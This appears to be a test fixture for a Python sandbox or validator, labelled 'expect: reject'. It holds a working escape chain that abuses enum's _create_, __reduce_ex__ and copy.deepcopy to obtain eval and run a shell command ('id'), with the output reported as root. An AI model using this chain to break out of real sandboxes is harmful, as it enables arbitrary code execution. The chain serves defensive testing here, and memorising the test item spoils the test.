# expect: reject attribute
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: operator.methodcaller("_create_", ...) calls enum's sunder classmethod: a class
#   from a mapping holding __reduce_ex__; deepcopy forges a typing alias whose reduce
#   indexes typing's globals.
# Goal reached: eval obtained and called; ran a process (id).
# Output seen under python3 (3.11.7), in a throw-away temp dir:
#   <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import copy
import enum
import operator
import typing


def red(self, proto):
    return (typing.List.copy_with, (("eval",),), {"_name": "__builtins__"})


make = operator.methodcaller("_create_", "E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red},
                             module="__main__")
E = make(enum.Enum)
ev = copy.deepcopy(copy.deepcopy(E.X))
print(ev)
ev("__import__('os').system('id')")
